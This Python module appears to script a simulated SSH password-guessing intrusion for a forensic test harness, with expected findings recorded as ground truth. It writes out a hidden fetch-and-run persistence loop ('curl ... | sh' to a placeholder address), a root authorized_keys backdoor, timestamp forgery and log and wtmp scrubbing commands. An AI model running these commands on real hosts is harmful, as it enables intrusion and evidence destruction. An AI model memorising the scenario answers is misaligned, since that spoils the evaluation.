"""The break-in by a guessed password, and then what an intruder does about the traces: lines and records taken out, a log
emptied, a history that leads nowhere, times set back. Some are overlooked, as ever: the list of failures, the last log-in."""

from scenarios import guessing, normal
from stage import ssh
from stage.clock import now
from stage.host import WEAK_PASSWORD
from stage.network import ATTACKERS

LOG_FORMAT = "rfc3339"
INTRUDER = ATTACKERS[0]
ACCOUNT = "deploy"
PROGRAM = "/usr/local/sbin/.sysmond"
# Nothing has this address: the program waits for what never comes.
PROGRAM_TEXT = "#!/bin/sh\nwhile sleep 3600; do curl -fsS -m 5 http://203.0.113.66/task | sh; done\n"
KEYS = "/root/.ssh/authorized_keys"


def play(host, network, facts) -> None:
    facts.notes.update(verdict_expected="intrusion", accused=[ACCOUNT, "root"], account=ACCOUNT, attacker_address=INTRUDER,
                       attacker_addresses=[INTRUDER], entry_vector="ssh_password_guessing", intruder_log_ins=[], cleaned=[], beside=["program"],
                       verdict={"intrusion": "confirmed", "mail_abuse": "none_found", "ways": []})
    normal.round_of_work(host, facts)
    host.rotate_logs(everything=True)
    normal.round_of_work(host, facts, typos=1)
    host.rotate_logs(everything=False)
    normal.round_of_work(host, facts)
    facts.step("guessing", address=INTRUDER)
    guessing.spray(host, facts, [INTRUDER], ("root", "admin", "test", "webadmin", ACCOUNT), rounds=2, width=4)
    if not guessing.guess(host, facts, INTRUDER, ACCOUNT, ["deploy", "deploy123", WEAK_PASSWORD]):
        raise RuntimeError("the weak password did not open the door")
    facts.notes.update(login_at=now(), method="password")
    facts.step("login", account=ACCOUNT, address=INTRUDER)
    _settle_in(host, facts)
    _clean(host, facts)
    host.wait_for("/var/log/auth.log", r"session closed for user deploy")
    normal.round_of_work(host, facts)


def _settle_in(host, facts) -> None:
    """A look around, a program that nobody looks for, and a key of root's; both dated back."""
    _must(ssh.with_passwords(host.work, INTRUDER, ACCOUNT, [WEAK_PASSWORD], stdin="w\nid\nexit\n", terminal=True))
    key = ssh.make_key(host.work, "intruder", "root@web01")
    program = PROGRAM_TEXT.replace("\n", "\\n")
    _as_root(host, "umask 022",
             f"printf '{program}' > {PROGRAM}", f"chmod 755 {PROGRAM}", f"touch -r /usr/local/bin/backup-site {PROGRAM}",
             "install -d -m 700 /root/.ssh", f"echo '{key.public}' >> {KEYS}", f"touch -r /usr/local/bin/backup-site {KEYS} /root/.ssh")
    facts.notes["program"] = {"path": PROGRAM}
    facts.notes["key"] = {"path": KEYS, "fingerprint": key.fingerprint, "line": key.public, "added_at": now()}


def _clean(host, facts) -> None:
    facts.step("covered", path="/var/log/auth.log")
    _as_root(host, f"sed -i '/{INTRUDER}/d' /var/log/auth.log /var/log/syslog",
             "sed -i '/sudo.*deploy/d' /var/log/auth.log",
             f"utmpdump /var/log/wtmp 2>/dev/null | grep -v {INTRUDER} > /tmp/.w", "utmpdump -r < /tmp/.w > /var/log/wtmp 2>/dev/null", "rm /tmp/.w",
             ": > /var/log/user.log",
             "rm -f /root/.bash_history", "ln -s /dev/null /root/.bash_history", "ln -sf /dev/null /home/deploy/.bash_history")
    facts.notes["cleaned"] = ["/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp", "/var/log/user.log", "/root/.bash_history",
                              "/home/deploy/.bash_history"]


def _as_root(host, *commands: str) -> None:
    script = "\n".join(commands) + "\n"
    done = ssh.with_passwords(host.work, INTRUDER, ACCOUNT, [WEAK_PASSWORD], stdin=WEAK_PASSWORD + "\n" + script,
                              command="sudo -S -p '' sh -s")
    _must(done)


def _must(outcome) -> None:
    if not outcome.opened:
        raise RuntimeError(f"the intruder was kept out: {outcome}")
